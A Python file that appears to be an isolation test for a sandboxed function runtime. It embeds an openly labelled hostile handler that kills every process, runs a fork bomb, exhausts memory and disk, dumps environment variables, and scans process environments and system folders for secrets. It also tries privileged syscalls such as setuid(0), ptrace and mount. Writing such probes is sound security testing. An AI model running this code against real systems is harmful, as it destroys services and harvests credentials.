"""The hostile function: one handler, one attack per event, each reporting what it managed to do."""

ATTACKER = r"""
import errno, json, os, signal, socket, subprocess, sys, time

def _try(fn):
    try:
        return {"ok": True, "value": fn()}
    except OSError as e:
        return {"ok": False, "errno": e.errno, "error": f"{type(e).__name__}: {e}"}

def _read(path):
    with open(path, "rb") as f:
        return f.read(64).decode("latin-1")

def _write(path):
    with open(path, "w") as f:
        f.write("pwned")
    return path

def handler(event, context):
    attack = event["attack"]
    if attack == "ping":
        return {"pong": True, "uid": os.getuid()}
    if attack == "read":
        return {p: _try(lambda p=p: _read(p)) for p in event["paths"]}
    if attack == "listdir":
        return {p: _try(lambda p=p: sorted(os.listdir(p))) for p in event["paths"]}
    if attack == "write":
        return {p: _try(lambda p=p: _write(p)) for p in event["paths"]}
    if attack == "processes":
        return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    if attack == "kill_all":
        me = os.getpid()
        targets = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me] + [os.getppid()]
        return {str(t): _try(lambda t=t: os.kill(t, signal.SIGKILL)) for t in targets}
    if attack == "allocate":
        hog = [bytearray(1 << 20) for _ in range(event["mb"])]
        return len(hog)
    if attack == "fill_tmp":
        written = 0
        chunk = b"x" * (1 << 20)
        try:
            with open("/tmp/fill", "wb") as f:
                while True:
                    f.write(chunk)
                    f.flush()
                    written += 1
        except OSError as e:
            result = {"errno": e.errno, "mb": written}
        os.unlink("/tmp/fill")
        return result
    if attack == "fork_bomb":
        r, w = os.pipe()
        children, failure = [], None
        for _ in range(event["n"]):
            try:
                pid = os.fork()
            except OSError as e:
                failure = e.errno
                break
            if pid == 0:
                os.close(w)
                os.read(r, 1)
                os._exit(0)
            children.append(pid)
        os.close(w)
        os.close(r)
        for pid in children:
            os.waitpid(pid, 0)
        return {"forked": len(children), "errno": failure}
    if attack == "environment":
        return {"env": dict(os.environ), "init_environ": _try(lambda: _read("/proc/1/environ"))}
    if attack == "snoop":  # look for `needles` in every process's environment and command line, every file
        needles = [n.encode() for n in event["needles"]]
        found = []
        with open("/tmp/planted", "w") as f:  # its own secret, where the snoop must find it (proof that it looks)
            f.write(os.environ["AWS_SECRET_ACCESS_KEY"])

        def look(where, data):
            found.extend(f"{i}@{where}" for i, n in enumerate(needles) if n in data)

        for pid in os.listdir("/proc"):
            for part in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{part}", "rb") as f:
                        look(f"/proc/{pid}/{part}", f.read())
                except (OSError, ValueError):
                    pass
        for top in ("/tmp", "/var/task", "/opt", "/etc", "/dev/shm", "/proc/net"):
            for root, _, files in os.walk(top):
                for name in files:
                    path = os.path.join(root, name)
                    try:
                        with open(path, "rb") as f:
                            look(path, f.read(1 << 20))
                    except OSError:
                        pass
        return sorted(set(found))
    if attack == "connect":
        def connect():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(2)
            try:
                s.connect(("127.0.0.1", event["port"]))
            finally:
                s.close()
            return "connected"
        return _try(connect)
    if attack == "syscalls":
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        def call(fn, *args):
            ret = fn(*args)
            return {"ret": ret, "errno": ctypes.get_errno()}
        return {
            "mount": call(libc.mount, b"tmpfs", b"/tmp", b"tmpfs", 0, None),
            "unshare": call(libc.unshare, 0x10000000),
            "ptrace": call(libc.ptrace, 16, 1, None, None),
            "setuid0": _try(lambda: os.setuid(0)),
            "chroot": _try(lambda: os.chroot("/tmp")),
            "bpf": call(libc.syscall, 321, 0, None, 0),
        }
    raise ValueError(attack)
"""
